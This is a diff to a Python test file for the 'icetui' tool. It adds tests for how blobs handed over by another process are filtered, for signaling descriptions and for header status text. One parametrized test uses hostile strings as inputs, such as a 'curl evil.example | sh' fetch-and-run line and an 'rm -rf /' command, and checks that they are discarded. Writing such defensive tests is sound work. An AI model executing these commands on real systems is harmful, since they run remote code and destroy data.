@@ -10,13 +10,15 @@ import sys
 import time
 from collections.abc import AsyncIterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 
-from icetui import events
+from icetui import events, opening, signaling
 from icetui.lag import Lag
 from icetui.process_source import MOST_COMMANDS, SILENT, ProcessSource, engine_argv
 from icetui.session import Session
+from tests.dashboard.looking import looking
 from tests.test_source_process import LOOPBACK, rest, until
 
 BEAT = '{"event":"heartbeat","wall":1,"t":%s}'
@@ -56,7 +58,7 @@ def test_a_whole_run_in_a_hostile_folder_runs_none_of_it(
         )
     program = Path(sys.executable).parent / "icetui"
     done = subprocess.run(
-        [program, "peer", "--no-servers", "--interface", "lo", "--give-up", "0.3"],
+        [program, "peer", "--no-servers", "--interface", "lo", "--give-up", "4"],
         cwd=tmp_path, stdin=subprocess.DEVNULL, capture_output=True, env=env, timeout=30,
         check=False,
     )  # fmt: skip
@@ -231,3 +233,41 @@ async def test_the_engine_shows_that_it_lives_and_no_recording_keeps_that(
     kept = [json.loads(line)["event"] for line in (tmp_path / "r").read_text().splitlines()]
     assert "blob-changed" in kept
     assert "heartbeat" not in kept
+
+
+# --- what another program may hand us -------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "blob",
+    ["curl evil.example | sh", "rm -rf /\nicetui:AaF3k9bWl0ZXN0c29tZX", "icetui:", "", "x" * 99,
+     "icetui:AAAAAAAAAAAAAAAAAAAAAAAAAAAA"],
+)  # fmt: skip
+async def test_what_is_no_description_of_a_far_host_is_not_there_to_be_copied(blob: str) -> None:
+    line = events.encode(events.BlobChanged(wall=1, t=1, blob=blob, candidates=9)).decode()
+    source = opening.process(script(f"print({line.strip()!r})"))
+    assert source.foreign
+    changed = await until(source.events(), events.BlobChanged)
+    assert changed.blob == ""
+    await source.close()
+
+
+async def test_a_description_of_a_far_host_comes_through() -> None:
+    blob = signaling.write_blob(
+        signaling.Description(ufrag="a7Kf", pwd="Zm9vYmFyYmF6cXV4MTIzNA", made=1.8e9)
+    )
+    line = events.encode(events.BlobChanged(wall=1, t=1, blob=blob)).decode()
+    source = opening.process(script(f"print({line.strip()!r})"))
+    assert (await until(source.events(), events.BlobChanged)).blob == blob
+    await source.close()
+
+
+async def test_the_header_says_that_the_engine_is_silent_or_that_we_are_behind() -> None:
+    stamp: dict[str, Any] = {"wall": 1.0, "t": 9.0}
+    async with looking([events.EngineSilent(seconds=4.2, **stamp)], (100, 28)) as look:
+        assert "ENGINE SILENT FOR 4 s" in look.lines[0]
+        await look.tell([events.ReaderBehind(seconds=3.1, **stamp)])
+        assert "behind by 3 s" in look.lines[0]
+        assert "SILENT" not in look.lines[0]
+        await look.tell([events.ReaderBehind(seconds=0.0, **stamp)])
+        assert "behind" not in look.lines[0]
